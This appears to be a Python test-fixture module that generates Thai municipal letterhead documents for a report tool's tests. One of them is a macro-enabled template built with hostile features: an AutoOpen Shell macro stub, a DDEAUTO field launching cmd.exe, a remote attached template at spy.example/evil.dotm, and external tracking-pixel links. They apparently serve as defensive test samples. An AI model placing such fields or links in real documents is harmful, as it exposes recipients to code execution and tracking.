"""Two letterheads as agencies make them in Word: one with seal, table and footer, one with macros."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache

import docx
from docx.document import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Mm, Pt

from tests.report.docx.samples import DOCX, OFFICE, PACKAGE, zipped

__all__ = ["MACRO", "SPY", "logo", "municipal", "with_macros"]

MACRO = b'Attribute VB_Name = "ThisDocument" Sub AutoOpen() Shell'
"""Content of the macro part."""
SPY = "spy.example"
"""A host to which the template has links."""

_RELATIONS = "application/vnd.openxmlformats-package.relationships+xml"
_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"


@cache
def logo() -> bytes:
    """A small seal: a dark ring on white."""
    side = 64
    rows = b""
    for y in range(side):
        distances = (((x - 31.5) ** 2 + (y - 31.5) ** 2) ** 0.5 for x in range(side))
        rows += b"\0" + bytes(0x33 if 20 < distance < 30 else 0xFF for distance in distances)
    chunks = (
        (b"IHDR", struct.pack(">2L5B", side, side, 8, 0, 0, 0, 0)),
        (b"IDAT", zlib.compress(rows)),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def _field(paragraph: object, code: str) -> None:
    for xml in (
        f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="begin"/></w:r>',
        f'<w:r {nsdecls("w")}><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>',
        f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="separate"/></w:r>',
        f"<w:r {nsdecls('w')}><w:t>1</w:t></w:r>",
        f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="end"/></w:r>',
    ):
        paragraph._p.append(parse_xml(xml))


def _heading(document: Document) -> None:
    """Put a table with the seal, the name and the address into the header."""
    section = document.sections[0]
    section.page_width, section.page_height = Mm(210), Mm(297)
    section.left_margin, section.right_margin = Mm(30), Mm(20)
    section.top_margin, section.header_distance = Mm(45), Mm(10)
    table = section.header.add_table(1, 2, Mm(160))
    table.columns[0].width, table.columns[1].width = Mm(30), Mm(130)
    picture = table.cell(0, 0).paragraphs[0].add_run().add_picture(io.BytesIO(logo()), width=Mm(22))
    picture._inline.docPr.set("descr", "ตราของเทศบาล")
    table.cell(0, 1).paragraphs[0].add_run("{{หน่วย").bold = True
    table.cell(0, 1).paragraphs[0].add_run("งาน}}").bold = True
    table.cell(0, 1).add_paragraph("ถนนเทศบาล 1 อำเภอเมือง จังหวัดตัวอย่าง 10000 โทร. 0 2123 4567")
    section.header.add_paragraph()


def _save(document: Document) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@cache
def municipal() -> bytes:
    """A .docx with seal, header table, footer and a signature after the bookmark of the report."""
    document = docx.Document()
    document.styles["Normal"].font.size = Pt(16)
    _heading(document)
    footer = document.sections[0].footer.paragraphs[0]
    footer.add_run("ผลการประเมิน ITA ปีงบประมาณ พ.ศ. {{ปี}} หน้า ")
    _field(footer, "PAGE")
    document.add_paragraph("ที่ ตย 52001/ว 123")
    bookmarked = document.add_paragraph("")
    bookmarked._p.append(parse_xml(f'<w:bookmarkStart {nsdecls("w")} w:id="3" w:name="ITA_REPORT"/>'))
    bookmarked._p.append(parse_xml(f'<w:bookmarkEnd {nsdecls("w")} w:id="3"/>'))
    document.add_paragraph("(ลงชื่อ) ........................................ นายกเทศมนตรี")
    return _save(document)


def _with_macro_parts(entries: dict[str, bytes]) -> dict[str, bytes | str]:
    """Turn a document into a template with macros, an attached template and an external picture."""
    kinds = entries["[Content_Types].xml"].decode()
    kinds = kinds.replace(DOCX, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
    kinds = kinds.replace(
        "</Types>",
        '<Override PartName="/word/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/vbaData.xml" '
        'ContentType="application/vnd.ms-word.vbaData+xml"/></Types>',
    )
    links = (
        entries["word/_rels/document.xml.rels"]
        .decode()
        .replace(
            "</Relationships>",
            f'<Relationship Id="rId901" Type="{_MICROSOFT}/vbaProject" Target="vbaProject.bin"/>'
            f'<Relationship Id="rId902" Type="{OFFICE}/image" Target="https://{SPY}/pixel.png" '
            'TargetMode="External"/></Relationships>',
        )
    )
    settings = (
        entries["word/settings.xml"]
        .decode()
        .replace("<w:zoom", f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rId1"/><w:zoom', 1)
    )
    return {
        **entries,
        "[Content_Types].xml": kinds,
        "word/_rels/document.xml.rels": links,
        "word/settings.xml": settings,
        "word/vbaProject.bin": MACRO,
        "word/_rels/settings.xml.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
            f'Type="{OFFICE}/attachedTemplate" Target="file://{SPY}/evil.dotm" TargetMode="External"/>'
            "</Relationships>"
        ),
        "word/_rels/vbaProject.bin.rels": (
            f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
            f'Type="{_MICROSOFT}/wordVbaData" Target="vbaData.xml"/></Relationships>'
        ),
        "word/vbaData.xml": (
            '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml">'
            "<wne:docEvents><wne:eventDocOpen/></wne:docEvents></wne:vbaSuppData>"
        ),
    }


@cache
def with_macros() -> bytes:
    """A .dotm whose placeholder is split over runs, with live fields and a macro project."""
    document = docx.Document()
    _heading(document)
    document.add_paragraph("คำสั่งที่ {{ปี}}")
    _field(document.add_paragraph("ภาพ: "), f'INCLUDEPICTURE "https://{SPY}/pixel.png" \\d')
    _field(document.add_paragraph("ข้อมูล: "), 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
    linked = document.add_paragraph()
    linked._p.append(
        parse_xml(
            f'<w:r {nsdecls("w", "r")}><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1" '
            f'style="width:10pt;height:10pt"><v:imagedata r:id="rId902"/></v:shape></w:pict></w:r>'
        )
    )
    placeholder = document.add_paragraph("{{ITA_")
    placeholder.add_run("REPORT}}").bold = True
    assert placeholder._p.tag == qn("w:p")
    with zipfile.ZipFile(io.BytesIO(_save(document))) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    return zipped(_with_macro_parts(entries))
